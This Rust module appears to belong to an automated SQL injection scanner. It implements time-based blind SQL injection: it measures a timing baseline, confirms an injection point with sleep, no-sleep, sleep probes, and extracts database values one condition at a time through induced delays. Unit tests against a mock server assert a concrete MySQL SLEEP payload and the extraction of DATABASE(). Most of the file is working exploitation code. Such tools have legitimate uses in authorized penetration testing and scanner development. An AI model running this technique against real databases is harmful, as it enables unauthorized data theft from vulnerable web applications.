//! Time-based blind SQL injection
//!
//! A probe is TRUE when its round-trip exceeds the timing baseline by a
//! fraction of the injected delay. Every TRUE answer costs the full delay,
//! which is why this technique runs after the content-based ones.

use super::search::{infer_value, Oracle};
use crate::sqli::core::boundary::{self, Boundary, Payload};
use crate::sqli::core::dialect::Dialect;
use crate::sqli::core::settings::{
    DEFAULT_TIME_BASELINE_SAMPLES, DEFAULT_TIME_DELAY, DEFAULT_TIME_TOLERANCE,
};
use crate::sqli::error::{Result, SqliError};
use crate::sqli::request::Prober;
use crate::sqli::techniques::{
    inconclusive, DetectionResult, ExtractionRequest, ExtractionResult, InjectionRequest,
    Technique,
};
use async_trait::async_trait;
use std::time::Duration;
use tokio_util::sync::CancellationToken;

pub const NAME: &str = "time-based";

/// Sleep, no-sleep and sleep again all agreed
const CONFIDENCE: f32 = 0.85;

#[derive(Debug, Clone)]
pub struct TimeBased {
    delay: u64,
    tolerance: f64,
    samples: usize,
}

impl Default for TimeBased {
    fn default() -> Self {
        Self::new(
            DEFAULT_TIME_DELAY,
            DEFAULT_TIME_TOLERANCE,
            DEFAULT_TIME_BASELINE_SAMPLES,
        )
    }
}

impl TimeBased {
    pub fn new(delay: u64, tolerance: f64, samples: usize) -> Self {
        Self {
            delay: delay.max(1),
            tolerance,
            samples: samples.max(1),
        }
    }

    /// Mean round-trip of unmodified requests, `None` if every sample failed
    async fn baseline(&self, prober: &Prober<'_>) -> Result<Option<Duration>> {
        let mut total = Duration::ZERO;
        let mut taken = 0u32;
        for _ in 0..self.samples {
            if let Some(resp) = inconclusive(prober.original().await)? {
                total += resp.elapsed;
                taken += 1;
            }
        }
        Ok((taken > 0).then(|| total / taken))
    }

    /// Round-trips above this are TRUE
    fn threshold(&self, baseline: Duration) -> Duration {
        baseline + Duration::from_secs_f64(self.delay as f64 * self.tolerance)
    }

    fn delayed(&self, dialect: &dyn Dialect, boundary: &Boundary, original: &str, condition: &str) -> Payload {
        boundary.and(original, &dialect.conditional_delay(condition, self.delay))
    }

    /// `Some(true)` for a slow response, `None` when inconclusive
    async fn is_slow(&self, prober: &Prober<'_>, payload: &Payload, threshold: Duration) -> Result<Option<bool>> {
        let resp = match inconclusive(prober.send(payload).await)? {
            Some(resp) => resp,
            None => return Ok(None),
        };
        tracing::debug!(
            param = %prober.parameter().name,
            elapsed_ms = resp.elapsed.as_millis() as u64,
            "{}",
            payload
        );
        Ok(Some(resp.elapsed > threshold))
    }

    /// Sleep, no-sleep, sleep
    async fn confirms(
        &self,
        prober: &Prober<'_>,
        dialect: &dyn Dialect,
        boundary: &Boundary,
        threshold: Duration,
    ) -> Result<Option<Payload>> {
        let original = &prober.parameter().value;
        let (yes, no) = boundary.conditions();
        let sleep = self.delayed(dialect, boundary, original, yes);
        let no_sleep = self.delayed(dialect, boundary, original, no);

        if self.is_slow(prober, &sleep, threshold).await? != Some(true) {
            return Ok(None);
        }
        if self.is_slow(prober, &no_sleep, threshold).await? != Some(false) {
            return Ok(None);
        }
        if self.is_slow(prober, &sleep, threshold).await? != Some(true) {
            return Ok(None);
        }
        Ok(Some(sleep))
    }

    async fn find_vector(
        &self,
        prober: &Prober<'_>,
        dialects: &[&'static dyn Dialect],
        threshold: Duration,
    ) -> Result<Option<(&'static dyn Dialect, &'static Boundary, Payload)>> {
        for &dialect in dialects {
            for candidate in boundary::candidates(prober.parameter().param_type) {
                prober.check_cancelled()?;
                if let Some(payload) = self.confirms(prober, dialect, candidate, threshold).await? {
                    return Ok(Some((dialect, candidate, payload)));
                }
            }
        }
        Ok(None)
    }
}

struct DelayOracle<'a> {
    prober: Prober<'a>,
    dialect: &'static dyn Dialect,
    boundary: &'static Boundary,
    delay: u64,
    threshold: Duration,
}

#[async_trait]
impl Oracle for DelayOracle<'_> {
    async fn check(&self, condition: &str) -> Result<bool> {
        let payload = self.boundary.and(
            &self.prober.parameter().value,
            &self.dialect.conditional_delay(condition, self.delay),
        );
        let resp = self.prober.send(&payload).await?;
        Ok(resp.elapsed > self.threshold)
    }

    fn requests(&self) -> usize {
        self.prober.requests()
    }
}

#[async_trait]
impl Technique for TimeBased {
    fn name(&self) -> &'static str {
        NAME
    }

    fn priority(&self) -> u8 {
        3
    }

    async fn detect(&self, cancel: &CancellationToken, req: &InjectionRequest) -> Result<DetectionResult> {
        let prober = req.prober(cancel);

        let baseline = match self.baseline(&prober).await? {
            Some(baseline) => baseline,
            None => return Ok(DetectionResult::negative(NAME)),
        };
        let threshold = self.threshold(baseline);

        match self.find_vector(&prober, &req.dialects(), threshold).await? {
            Some((dialect, boundary, payload)) => {
                let evidence = format!(
                    "{}s {} delay observed twice with prefix {:?} (baseline {}ms, threshold {}ms)",
                    self.delay,
                    dialect.name(),
                    boundary.prefix,
                    baseline.as_millis(),
                    threshold.as_millis()
                );
                Ok(DetectionResult::positive(NAME, CONFIDENCE, payload, evidence)
                    .with_dbms(dialect.name()))
            }
            None => Ok(DetectionResult::negative(NAME)),
        }
    }

    async fn extract(&self, cancel: &CancellationToken, req: &ExtractionRequest) -> Result<ExtractionResult> {
        let injection = &req.injection;
        let prober = injection.prober(cancel);

        let baseline = self.baseline(&prober).await?.ok_or_else(|| {
            SqliError::Transport(anyhow::anyhow!("no timing baseline could be measured"))
        })?;
        let threshold = self.threshold(baseline);

        let (dialect, boundary, _) = self
            .find_vector(&prober, &[injection.dialect()], threshold)
            .await?
            .ok_or_else(|| {
                SqliError::NotInjectable(format!(
                    "no delay boundary for {}",
                    injection.parameter.name
                ))
            })?;

        let oracle = DelayOracle {
            prober,
            dialect,
            boundary,
            delay: self.delay,
            threshold,
        };
        infer_value(&oracle, dialect, &req.query).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::http::mock::{query_value, timed, MockTransport};
    use crate::http::response::HttpResponse;
    use crate::sqli::techniques::testing::{evaluate, extraction, injection, numeric_condition};
    use once_cell::sync::Lazy;
    use regex::Regex;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Arc;

    const BASE: &str = "<html>item 7</html>";

    static MYSQL_DELAY: Lazy<Regex> =
        Lazy::new(|| Regex::new(r"^IF\(\((.+)\),SLEEP\((\d+)\),0\)$").unwrap());

    /// MySQL response that is slow when the delayed condition holds
    fn sleepy_response(v: &str, secret: &str) -> HttpResponse {
        let fast = Duration::from_millis(30);
        let elapsed = numeric_condition(v)
            .and_then(|clause| MYSQL_DELAY.captures(clause))
            .and_then(|caps| {
                let seconds: u64 = caps[2].parse().ok()?;
                evaluate(&caps[1], secret)?.then(|| Duration::from_secs(seconds) + fast)
            })
            .unwrap_or(fast);
        timed(BASE, elapsed)
    }

    fn sleepy(secret: &'static str) -> Arc<MockTransport> {
        Arc::new(MockTransport::on_query("id", move |v| sleepy_response(v, secret)))
    }

    #[tokio::test]
    async fn test_detects_sleep() {
        let transport = sleepy("");
        let req = injection(transport.clone(), BASE, "");
        let result = TimeBased::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();

        assert!(result.injectable);
        assert_eq!(result.dbms, "MySQL");
        assert_eq!(
            result.payload.unwrap().render(),
            "7 AND IF((1=1),SLEEP(5),0)-- -"
        );
        // two baseline samples plus sleep, no-sleep, sleep
        assert_eq!(transport.count(), 5);
    }

    #[tokio::test]
    async fn test_same_payload_classifies_identically() {
        let req = injection(sleepy(""), BASE, "mysql");
        let cancel = CancellationToken::new();
        let prober = req.prober(&cancel);
        let technique = TimeBased::default();
        let threshold = technique.threshold(Duration::from_millis(30));

        for (i, candidate) in crate::sqli::core::BOUNDARIES.iter().enumerate() {
            let payload = technique.delayed(req.dialect(), candidate, "7", candidate.conditions().0);
            let first = technique.is_slow(&prober, &payload, threshold).await.unwrap();
            let second = technique.is_slow(&prober, &payload, threshold).await.unwrap();
            assert_eq!(first, second);
            if i == 0 {
                assert_eq!(first, Some(true));
            }
        }
    }

    #[tokio::test]
    async fn test_cancellation_stops_extraction_mid_search() {
        const CANCEL_AT: usize = 12;
        let cancel = CancellationToken::new();
        let trigger = cancel.clone();
        let seen = AtomicUsize::new(0);
        let transport = Arc::new(MockTransport::new(move |req| {
            // baseline and confirmation are done, the length search is running
            if seen.fetch_add(1, Ordering::Relaxed) + 1 == CANCEL_AT {
                trigger.cancel();
            }
            sleepy_response(&query_value(req, "id"), "db1")
        }));

        let req = extraction(injection(transport.clone(), BASE, "mysql"), "DATABASE()");
        let err = TimeBased::default().extract(&cancel, &req).await.unwrap_err();

        assert!(matches!(err, SqliError::Cancelled));
        assert_eq!(transport.count(), CANCEL_AT as u64);
    }

    #[tokio::test]
    async fn test_constant_latency_is_not_injectable() {
        let transport = Arc::new(MockTransport::new(|_| timed(BASE, Duration::from_millis(40))));
        let req = injection(transport, BASE, "mysql");
        let result = TimeBased::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert!(!result.injectable);
    }

    #[tokio::test]
    async fn test_transient_latency_is_rejected() {
        let calls = Arc::new(AtomicUsize::new(0));
        let seen = calls.clone();
        // A single slow response right after the baseline
        let transport = Arc::new(MockTransport::new(move |_| {
            let n = seen.fetch_add(1, Ordering::Relaxed);
            let ms = if n == 2 { 6_000 } else { 30 };
            timed(BASE, Duration::from_millis(ms))
        }));
        let req = injection(transport, BASE, "mysql");
        let result = TimeBased::default()
            .detect(&CancellationToken::new(), &req)
            .await
            .unwrap();
        assert!(!result.injectable);
    }

    #[tokio::test]
    async fn test_extracts_through_delays() {
        let transport = sleepy("db1");
        let req = extraction(injection(transport, BASE, "mysql"), "DATABASE()");
        let result = TimeBased::default()
            .extract(&CancellationToken::new(), &req)
            .await
            .unwrap();

        assert_eq!(result.value, "db1");
        assert_eq!(result.requests, 2 + 3 + 11 + 3 * 7);
    }

    #[test]
    fn test_threshold() {
        let technique = TimeBased::new(5, 0.7, 2);
        assert_eq!(
            technique.threshold(Duration::from_millis(100)),
            Duration::from_millis(3600)
        );
    }
}
